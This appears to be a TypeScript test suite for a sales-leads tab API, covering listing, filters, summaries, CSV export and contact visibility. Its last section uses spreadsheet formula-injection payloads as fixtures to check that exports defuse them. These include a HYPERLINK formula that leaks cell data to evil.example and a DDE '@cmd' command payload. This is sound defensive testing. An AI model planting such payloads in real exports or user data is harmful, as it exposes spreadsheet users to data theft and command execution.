import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import type { Lead } from '../../src/leads/lead.js';
import { parsePeriod } from '../../src/leads/period.js';
import { summarize } from '../../src/leads/reports.js';
import { buyer, TabHarness } from './tab-client.js';

describe('tab API: lists, export and summary', () => {
  let tab: TabHarness;
  const leads: Lead[] = [];

  before(async () => {
    tab = await TabHarness.start({ env: { MANAGERS: 'aad-boss' } });
    for (let n = 1; n <= 5; n++) leads.push(await tab.postedLead(buyer(n)));
    // Megan claims the first two; Alex qualifies the third (becoming its owner).
    for (const [lead, as, verb] of [
      [leads[0], 'aad-megan', 'lead.claim'],
      [leads[1], 'aad-megan', 'lead.claim'],
      [leads[2], 'aad-alex', 'lead.qualify'],
    ] as const) {
      const answer = await tab.json(`/api/tab/leads/${lead?.id}/actions`, {
        as,
        body: { verb, version: lead?.version },
      });
      assert.equal(answer.status, 200);
    }
  });
  after(async () => {
    await tab.stop();
  });

  const ids = (body: any) => body.items.map((i: any) => i.id);
  const newestFirst = () => [...leads].reverse().map((l) => l.id);

  it('pages newest first behind an opaque cursor, with counts and totals for the whole set', async () => {
    const seen: string[] = [];
    let cursor: string | undefined;
    let pages = 0;
    do {
      const { status, body } = await tab.json(`/api/tab/leads?limit=2${cursor ? `&cursor=${cursor}` : ''}`);
      assert.equal(status, 200);
      assert.ok(body.items.length <= 2);
      assert.equal(body.total, 5);
      assert.deepEqual(body.counts, {
        new: 2,
        assigned: 2,
        qualified: 1,
        opportunity: 0,
        won: 0,
        lost: 0,
        disqualified: 0,
      });
      seen.push(...ids(body));
      cursor = body.nextCursor;
      pages++;
    } while (cursor);
    assert.equal(pages, 3);
    assert.deepEqual(seen, newestFirst());
  });

  it('filters by owner, status, search, storefront and period; counts ignore the status filter', async () => {
    const get = async (query: string, as = 'aad-megan') =>
      (await tab.json(`/api/tab/leads?${query}`, { as })).body;
    assert.deepEqual(ids(await get('owner=me')), [leads[1]?.id, leads[0]?.id]);
    assert.deepEqual(ids(await get('owner=me', 'aad-alex')), [leads[2]?.id]);
    assert.deepEqual(ids(await get('owner=nobody')), [leads[4]?.id, leads[3]?.id]);
    assert.equal((await get('owner=someone')).total, 3);
    const assigned = await get('status=assigned,qualified');
    assert.deepEqual(ids(assigned), [leads[2]?.id, leads[1]?.id, leads[0]?.id]);
    assert.equal(assigned.counts.new, 2, 'the board still counts every status');
    assert.deepEqual(ids(await get('q=buyer4')), [leads[3]?.id]);
    assert.equal((await get('storefront=AppSource')).total, 5);
    assert.equal((await get('storefront=AzureMarketplace')).total, 0);
    assert.equal((await get('action=PLT&offer=field service&period=today')).total, 5);
    assert.equal((await get('period=2020-01-01..2020-01-31')).total, 0);
  });

  it('says which filter is wrong', async () => {
    for (const [query, message] of [
      ['status=open', /status must be one or more of new, assigned/],
      ['owner=everyone', /owner must be me, nobody or someone/],
      ['period=fortnight', /period must be today, week, month/],
      ['limit=0', /limit must be a whole number from 1 to 200/],
      ['cursor=not-ours', /cursor is not one this server gave/],
      ['changedSince=yesterday', /changedSince must be an ISO time/],
    ] as const) {
      const { status, body } = await tab.json(`/api/tab/leads?${query}`);
      assert.equal(status, 400, query);
      assert.match(body.error.message, message);
    }
  });

  it('sums the pipeline per currency over the filtered set', async () => {
    const lead = (await tab.store.getLead(leads[2]?.id as string)) as Lead;
    const opportunity = await tab.json(`/api/tab/leads/${lead.id}/actions`, {
      as: 'aad-alex',
      body: { verb: 'lead.opportunity', version: lead.version, value: 1200.5, currency: 'EUR' },
    });
    assert.equal(opportunity.status, 200);
    const { body } = await tab.json('/api/tab/leads', { as: 'aad-boss' });
    assert.deepEqual(body.pipeline, { EUR: 1200.5 });
    assert.deepEqual((await tab.json('/api/tab/leads?owner=nobody', { as: 'aad-boss' })).body.pipeline, {});
  });

  it('gives managers the summary command’s figures for the period, with the chart series', async () => {
    const refused = await tab.json('/api/tab/summary?period=week');
    assert.equal(refused.status, 403);
    assert.equal(refused.body.error.message, 'Only managers can do that.');
    const { status, body } = await tab.json('/api/tab/summary?period=week', { as: 'aad-boss' });
    assert.equal(status, 200);
    const period = parsePeriod('week', new Date(), 'UTC') as NonNullable<ReturnType<typeof parsePeriod>>;
    const expected = summarize(await tab.store.listLeadsReceived(period.from, period.to), period);
    assert.equal(body.summary.received, expected.received);
    assert.deepEqual(body.summary.funnel, expected.funnel);
    assert.deepEqual(body.summary.byStorefront, { AppSource: 5 });
    assert.equal(body.summary.firstTouch.touched, 3);
    assert.deepEqual(
      body.series.funnel.map((s: any) => [s.stage, s.count]),
      [
        ['received', 5],
        ['assigned', 3],
        ['qualified', 1],
        ['opportunity', 1],
        ['won', 0],
      ],
    );
    const perWeek = body.series.perWeek as Array<{ weekStart: string; byStorefront: Record<string, number> }>;
    assert.equal(
      perWeek.reduce((sum, w) => sum + (w.byStorefront.AppSource ?? 0), 0),
      5,
    );
    assert.ok(
      perWeek.every((w) => new Date(`${w.weekStart}T00:00:00Z`).getUTCDay() === 1),
      'weeks start on Monday',
    );
    assert.equal(body.series.firstTouch[0].upToMinutes, 15);
    assert.equal(body.series.firstTouch[0].count, 3, 'touched within seconds');
    const elsewhere = await tab.json('/api/tab/summary?period=week&team=19%3Aother%40thread.tacv2', {
      as: 'aad-boss',
    });
    assert.equal(elsewhere.body.summary.received, 0, 'one team’s figures');
    const bad = await tab.json('/api/tab/summary?period=fortnight', { as: 'aad-boss' });
    assert.equal(bad.status, 400);
    assert.match(bad.body.error.message, /today, week, month/);
  });

  it('exports the filtered view as CSV', async () => {
    const response = await tab.call('/api/tab/leads.csv?owner=me');
    assert.equal(response.status, 200);
    assert.match(response.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
    assert.match(
      response.headers.get('content-disposition') ?? '',
      /attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"/,
    );
    const rows = parse(await response.text(), { bom: true, columns: true }) as Array<Record<string, string>>;
    assert.deepEqual(
      rows.map((r) => r.id),
      [leads[1]?.id, leads[0]?.id],
    );
    assert.equal(rows[0]?.owner, 'Megan Bowen');
    assert.equal(rows[0]?.email, 'buyer2@example.com');
  });
});

describe('tab API: what strangers typed, in a spreadsheet and in the details', () => {
  let tab: TabHarness;
  let lead: Lead;

  before(async () => {
    tab = await TabHarness.start({ env: { CONTACT_VISIBILITY: 'owner' } });
    lead = await tab.postedLead(
      buyer(9, {
        FirstName: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
        LastName: '+SUM(1,2)',
        Company: '@cmd|" /C calc"!A0',
        Title: '-2+3',
        Country: '\t=1+1',
        Phone: '+351 912 345 678',
      }),
    );
  });
  after(async () => {
    await tab.stop();
  });

  it('exports cells a spreadsheet would run as formulas as text (a leading apostrophe)', async () => {
    const csv = await (await tab.call('/api/tab/leads.csv', { as: 'aad-megan' })).text();
    const [row] = parse(csv, { bom: true, columns: true }) as Array<Record<string, string>>;
    assert.equal(row?.firstName, `'=HYPERLINK("https://evil.example/?"&A1,"Open")`);
    assert.equal(row?.lastName, `'+SUM(1,2)`);
    assert.equal(row?.company, `'@cmd|" /C calc"!A0`);
    assert.equal(row?.title, `'-2+3`);
    assert.ok(row?.country?.startsWith(`'`), JSON.stringify(row?.country));
    for (const [column, value] of Object.entries(row ?? {}))
      assert.ok(!/^[=+\-@\t\r]/.test(value), `${column} would run as a formula: ${value}`);
  });

  it('starts no cell with a formula in a `;` locale either (pt-PT), every field quoted', async () => {
    const tricky = await tab.postedLead(
      buyer(10, {
        Company: 'Fabrikam;=1+2',
        Title: 'Sales, +SUM(1)\n=1+2',
        LastName: 'Lindqvist;"=HYPERLINK(""https://evil.example"")"',
        Country: 'PT; -2+3',
        FirstName: 'Ana',
      }),
    );
    const csv = await (await tab.call('/api/tab/leads.csv', { as: 'aad-megan' })).text();
    const lines = csv
      .replace(/^\ufeff/, '')
      .split('\r\n')
      .filter(Boolean);
    for (const line of lines) assert.match(line, /^".*"$/s, `every field quoted: ${line}`);
    // As a `,` reader sees it: the values, only defused.
    const row = (parse(csv, { bom: true, columns: true }) as Array<Record<string, string>>).find(
      (r) => r.id === tricky.id,
    );
    assert.equal(row?.company, "Fabrikam;'=1+2");
    assert.equal(row?.title, "Sales,' +SUM(1)\n'=1+2");
    assert.equal(row?.firstName, 'Ana');
    // As a `;` locale reads it, a quote inside a field being a plain character (a lenient reader):
    // no cell starts with a formula.
    for (const cells of parse(csv, {
      bom: true,
      delimiter: ';',
      relax_quotes: true,
      relax_column_count: true,
    }) as string[][])
      for (const cell of cells)
        assert.ok(!/^[\s"]*[=+\-@\t\r]/.test(cell), `a \`;\` reader would run: ${JSON.stringify(cell)}`);
  });

  it('shows the e-mail and phone only to the owner when CONTACT_VISIBILITY=owner, as the cards do', async () => {
    const before = await tab.json(`/api/tab/leads/${lead.id}`);
    assert.equal(before.body.lead.contactHidden, true);
    assert.equal(before.body.lead.customer.email, '');
    assert.equal(before.body.lead.customer.phone, '');
    const claim = await tab.json(`/api/tab/leads/${lead.id}/actions`, {
      body: { verb: 'lead.claim', version: lead.version },
    });
    assert.equal(claim.body.lead.customer.email, 'buyer9@example.com');
    assert.equal(claim.body.lead.contactHidden, false);
    const alex = await tab.json(`/api/tab/leads/${lead.id}`, { as: 'aad-alex' });
    assert.equal(alex.body.lead.customer.email, '');
    const csv = await (await tab.call('/api/tab/leads.csv', { as: 'aad-alex' })).text();
    assert.ok(!csv.includes('buyer9@example.com'));
    assert.ok(!csv.includes('912 345'));
  });
});
